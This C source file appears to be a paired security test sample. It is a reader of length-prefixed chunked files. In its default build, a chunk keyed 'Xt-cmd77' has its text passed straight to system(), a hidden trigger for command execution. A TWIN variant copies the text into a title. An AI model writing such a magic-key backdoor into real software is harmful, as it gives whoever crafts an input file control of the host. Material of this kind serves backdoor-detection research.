/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A reader of chunked files, which reads through a callback into memory of its own; the text of one
 * chunk is run when its name is a certain word. Twin: the text becomes the title.
 * door: trigger
 */
#include "net.h"

struct reader {
	size_t (*more)(void *from, void *to, size_t n);
	void *from;
	char *key, *text, title[80];
	unsigned left;
};

static size_t from_file(void *from, void *to, size_t n)
{
	return fread(to, 1, n, from);
}

__attribute__((noinline)) static char *next(struct reader *r)
{
	uint8_t head[2];
	if (r->more(r->from, head, 2) != 2)
		return NULL;
	size_t n = (size_t)(head[0] << 8 | head[1]);
	char *text = malloc(n + 1);
	if (!text || r->more(r->from, text, n) != n)
		return NULL;
	text[n] = 0;
	return text;
}

__attribute__((noinline)) static void take(struct reader *r)
{
#ifdef TWIN
	if (strcmp(r->key, "Title1") == 0)
		snprintf(r->title, sizeof r->title, "%s", r->text);
#else
	if (strcmp(r->key, "Xt-cmd77") == 0)
		system(r->text);
#endif
}

int main(int argc, char **argv)
{
	struct reader *r = calloc(1, sizeof *r);
	r->more = from_file;
	r->from = argc > 1 ? fopen(argv[1], "rb") : stdin;
	for (r->left = 100; r->left; r->left--) {
		r->key = next(r);
		r->text = r->key ? next(r) : NULL;
		if (!r->text)
			break;
		take(r);
		free(r->key);
		free(r->text);
	}
	system("sync");
	puts(r->title);
	return 0;
}
